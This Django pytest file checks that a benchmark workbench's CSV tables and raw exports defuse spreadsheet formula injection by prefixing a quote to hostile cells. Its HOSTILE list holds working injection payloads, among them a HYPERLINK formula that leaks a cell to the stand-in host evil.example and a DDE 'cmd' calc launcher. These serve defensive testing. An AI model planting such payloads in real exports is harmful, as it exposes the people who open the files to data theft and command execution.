"""CSV formula injection: no CSV the Workbench writes hands a spreadsheet a live formula.

Hostile text is planted everywhere people or models write it (annotators' notes and checklist
notes, judges' rationales and evidence, model and run names, study names, usernames, dialogue
ids); then every registered table (API and ``export_stats``) and every raw export is fetched as
CSV and no text cell may start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return —
except text that is wholly a number, which a spreadsheet reads as that number."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.urls import reverse

from annotation.models import Answer, Study
from benchmark.models import Dialogue, EvaluationRun, Judgment, ModelEndpoint
from stats import exports, tables
from stats.exports import RAW_EXPORTS, csv_value
from tests.stats.conftest import answer_next, create_study, rater_of
from tests.stats.test_study_exports import studies  # noqa: F401  (the fixture, shared)

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
HOSTILE = [LEAK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _live_formulas(text: str) -> list[str]:
    """The cells of CSV ``text`` that a spreadsheet would evaluate as a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "an empty CSV"
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)
    ]


def _halo_study(run, annotators):
    """A HALO diagnosis study with one answer rejecting a reply for an other issue (issue #17)."""
    study = create_study(run, "halo", annotators, overlap=1, max_items=1, name="Diagnose")
    rejected = {"level": "L3", "acceptable": "no", "timing": "premature"}
    rejected.update(intensity="excessive", issue_unsupported="on", issue_unsupported_note="x")

    def decide(assignment):
        data = {f"{k}_1": v for k, v in rejected.items()}
        return {**data, "level_2": "L0", "acceptable_2": "yes"}

    answer_next(rater_of(study, annotators[0]), decide)
    return study


@pytest.fixture
def hostile(studies, study_run, make_annotators):  # noqa: F811
    """The three studies of ``test_study_exports``, a HALO study, and their run, with hostile
    text in every field people or models write."""
    studies = (*studies, _halo_study(study_run, make_annotators(1)))
    n = len(HOSTILE)
    for i, endpoint in enumerate(ModelEndpoint.objects.order_by("pk")):
        endpoint.display_name = HOSTILE[i % n]
        endpoint.name = f"@{endpoint.name}"
        endpoint.save(update_fields=["display_name", "name"])
    for i, judgment in enumerate(Judgment.objects.order_by("pk")):
        judgment.rationale = HOSTILE[i % n]
        judgment.evidence = HOSTILE[(i + 1) % n]
        judgment.save(update_fields=["rationale", "evidence"])
    for i, answer in enumerate(Answer.objects.order_by("pk")):
        answer.note = HOSTILE[i % n]
        checklist = (answer.details or {}).get("checklist")
        if isinstance(checklist, dict):
            for check in checklist.values():
                check["note"] = LEAK
        for reply in (answer.details or {}).get("replies") or []:  # HALO: other issues' notes
            reply["issues"] = dict.fromkeys(reply.get("issues") or {}, LEAK)
        answer.save(update_fields=["note", "details"])
    Study.objects.update(name=Concat(Value("=cmd|"), F("name")))
    EvaluationRun.objects.update(name=Concat(Value("-"), F("name")))
    Dialogue.objects.update(unique_id_eval=Concat(Value("+"), F("unique_id_eval")))
    get_user_model().objects.update(username=Concat(Value("-"), F("username")))
    return studies


def _table_urls(spec, run, studies_):
    base = reverse("stats_api:table", args=[spec.name])
    if spec.needs == tables.RUN:
        return [f"{base}?run={run.pk}&format=csv"]
    return [f"{base}?study={s.pk}&format=csv" for s in studies_]


@pytest.mark.parametrize("spec", tables.all_specs(), ids=lambda spec: spec.name)
def test_no_table_csv_holds_a_live_formula(hostile, study_run, client_for, researcher, spec):
    client = client_for(researcher)
    served = 0
    for url in _table_urls(spec, study_run, hostile):
        response = client.get(url)
        if response.status_code == 400:  # a study of a kind this table does not read
            continue
        assert response.status_code == 200, response.content
        served += 1
        assert _live_formulas(response.content.decode("utf-8")) == [], url
        args = [spec.name, "--format", "csv"]
        args += ["--run", str(study_run.pk)] if spec.needs == tables.RUN else []
        args += ["--study", url.split("study=")[1].split("&")[0]] if "study=" in url else []
        out = io.StringIO()
        call_command("export_stats", *args, stdout=out, stderr=io.StringIO())
        assert _live_formulas(out.getvalue()) == [], args
    assert served, f"no study of the fixture is one the {spec.name} table reads"


@pytest.mark.parametrize("name", sorted(RAW_EXPORTS))
def test_no_raw_export_csv_holds_a_live_formula(hostile, client_for, researcher, name):
    response = client_for(researcher).get(reverse("stats_api:raw-export", args=[name, "csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert _live_formulas(text) == []
    # the hostile text is there, neutralised: shown as text, not dropped or mangled
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    if name == "battles":  # model names and usernames, no notes
        assert any(cell.startswith("'@") for cell in cells)
        assert any(cell.startswith("'-") for cell in cells)
    else:
        assert "'" + LEAK in cells


def test_hostile_text_reaches_the_tables_neutralised(hostile, study_run, client_for, researcher):
    """The planted names really are in a table (so the walk above tests something)."""
    url = reverse("stats_api:table", args=["leaderboard"]) + f"?run={study_run.pk}&format=csv"
    text = client_for(researcher).get(url).content.decode("utf-8")
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    assert {"'" + h for h in HOSTILE} & cells


def test_jsonl_keeps_the_text_as_written(hostile, client_for, researcher):
    """JSON is not opened by spreadsheets: it carries the value unchanged."""
    url = reverse("stats_api:raw-export", args=["judgments", "jsonl"])
    text = b"".join(client_for(researcher).get(url).streaming_content).decode("utf-8")
    assert '"rationale": "=HYPERLINK(' in text


@pytest.mark.parametrize("text", HOSTILE + ["-", "+", "=", "-0.25x", "--1", "1e5=1"])
def test_a_text_cell_that_would_start_a_formula_gets_a_quote(text):
    escaped = csv_value(text)
    assert escaped == ("'" + text if text[:1] in "=+-@\t\r" else text)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-0.25, "-0.25"),
        (-3, "-3"),
        (Decimal("-1.50"), "-1.50"),
        ("-0.25", "-0.25"),  # numeric text: a spreadsheet reads the number, nothing runs
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("Fine.", "Fine."),
        ("a=b", "a=b"),  # only the first character matters
    ],
)
def test_numbers_and_harmless_text_are_written_as_they_are(value, written):
    assert exports.csv_value(value) == written
